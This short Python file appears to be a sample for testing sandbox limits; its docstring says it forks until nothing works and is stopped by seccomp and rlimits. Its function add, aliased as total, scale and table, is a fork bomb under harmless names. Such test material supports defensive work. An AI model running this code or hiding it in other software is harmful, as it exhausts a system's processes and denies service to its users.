"""
group: processes
tries: Forks until nothing works any more.
stopped by: seccomp, rlimits
"""
import os


def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            return -1


total = scale = table = lambda x: add(0, 0)
